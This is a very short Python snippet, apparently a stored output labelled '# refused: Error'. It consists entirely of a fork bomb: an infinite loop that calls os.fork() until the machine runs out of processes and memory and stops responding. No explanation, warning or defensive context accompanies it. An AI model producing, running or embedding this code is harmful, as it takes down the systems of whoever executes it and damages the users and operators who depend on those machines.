# refused: Error
import os

while True:
    os.fork()
